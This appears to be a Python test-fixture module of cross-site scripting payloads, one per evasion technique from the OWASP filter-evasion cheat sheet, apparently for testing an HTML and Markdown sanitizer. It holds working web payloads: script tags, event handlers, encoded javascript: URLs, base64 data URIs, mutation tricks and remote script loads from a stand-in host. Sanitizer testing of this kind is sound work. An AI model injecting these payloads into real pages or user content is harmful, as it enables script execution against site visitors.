"""Our own XSS corpus, one payload per kind of the OWASP filter-evasion cheat sheet
(written for these tests; each kind, not each string, comes from the sheet)."""

from __future__ import annotations

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
JS = "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;"  # javascript:
JS_PADDED = "".join(f"&#{ord(char):07d}" for char in "javascript:")
JS_HEX = "".join(f"&#x{ord(char):X}" for char in "javascript") + "&#x3A;"

PAYLOADS = {
    "script-tag": "<script>alert('脚本')</script>",
    "script-src": '<SCRIPT SRC="//xss.example/x.js"></SCRIPT>',
    "img-javascript-quoted": "<IMG SRC=\"javascript:alert('图')\">",
    "img-javascript-unquoted": "<IMG SRC=javascript:alert('图')>",
    "img-case-mixed": "<IMG SRC=JaVaScRiPt:alert('大小写')>",
    "img-decimal-entities": f"<IMG SRC={JS}alert(1)>",
    "img-decimal-padded": f"<IMG SRC={JS_PADDED}alert(1)>",
    "img-hex-entities": f"<IMG SRC={JS_HEX}alert(1)>",
    "embedded-tab": '<IMG SRC="jav\tascript:alert(1);">',
    "embedded-tab-entity": '<IMG SRC="jav&#x09;ascript:alert(1);">',
    "embedded-newline-entity": '<IMG SRC="jav&#x0A;ascript:alert(1);">',
    "leading-spaces-and-meta": '<IMG SRC=" &#14;  javascript:alert(1);">',
    "non-alpha-non-digit": '<SCRIPT/XSS SRC="//xss.example/xss.js"></SCRIPT>',
    "body-onload-punctuation": '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("体")>',
    "extra-open-brackets": '<<SCRIPT>alert("括号");//\\<</SCRIPT>',
    "no-closing-tag": "<SCRIPT SRC=//xss.example/xss.js?< B >",
    "half-open-tag": "<IMG SRC=\"`<javascript:alert>`('XSS')\"",
    "img-onerror": "<img src=x onerror=alert('错误')>",
    "img-onmouseover-hash": "<IMG SRC=# onmouseover=\"alert('鼠标')\">",
    "malformed-img-quotes": '<IMG """><SCRIPT>alert("引号")</SCRIPT>">',
    "svg-onload": "<svg/onload=alert('矢量')>",
    "svg-script": "<svg><script>alert(1)</script></svg>",
    "iframe-javascript": '<iframe src="javascript:alert(1)"></iframe>',
    "frameset-onload": "<frameset onload=alert(1)>",
    "object-data-uri": f'<object data="data:text/html;base64,{B64_SCRIPT}"></object>',
    "embed-svg-data": '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "a-data-uri": f'<a href="data:text/html;base64,{B64_SCRIPT}">数据</a>',
    "a-vbscript": '<a href="vbscript:msgbox(1)">VB</a>',
    "a-onclick": '<a href="#" onclick="alert(1)">点</a>',
    "a-leading-space-javascript": '<a href="  javascript:alert(1)">空格</a>',
    "markdown-link-javascript": "[点我](javascript:alert('链接'))",
    "markdown-link-case-entity": "[点我](&#106;avascript:alert(1)) 和 [再点](JaVaScRiPt:alert(1))",
    "markdown-image-javascript": "![图](javascript:alert('图片'))",
    "markdown-reference-javascript": "[参考][坏]\n\n[坏]: javascript:alert(1)",
    "markdown-autolink-javascript": "<javascript:alert(1)>",
    "markdown-image-data-svg": "![矢量](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "style-background-url": '<div style="background-image: url(javascript:alert(1))">背景</div>',
    "style-expression": '<div style="width: expression(alert(1));">表达式</div>',
    "style-element-import": "<style>@import 'javascript:alert(1)';</style>",
    "link-stylesheet": '<link rel="stylesheet" href="javascript:alert(1)">',
    "meta-refresh": '<meta http-equiv="refresh" content="0;url=javascript:alert(1);">',
    "base-href": '<base href="javascript:alert(1)//">',
    "table-background": '<table background="javascript:alert(1)"><tr><td>表</td></tr></table>',
    "form-action": '<form action="javascript:alert(1)"><button>提交</button></form>',
    "input-image": '<input type="image" src="javascript:alert(1)">',
    "details-ontoggle": "<details open ontoggle=alert(1)><summary>开</summary></details>",
    "video-source-onerror": '<video><source onerror="alert(1)"></video>',
    "template-script": "<template><script>alert(1)</script></template>",
    "mutation-noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "mutation-math-style": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "conditional-comment": "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "srcset-javascript": (
        '<img src="/images/logo.png" srcset="javascript:alert(1) 1x, /images/logo.png 2x">'
    ),
    "unknown-tag-event": "<xss onafterscriptexecute=alert(1)>未知</xss>",
    "xlink-href": '<svg><a xlink:href="javascript:alert(1)"><text>点</text></a></svg>',
}
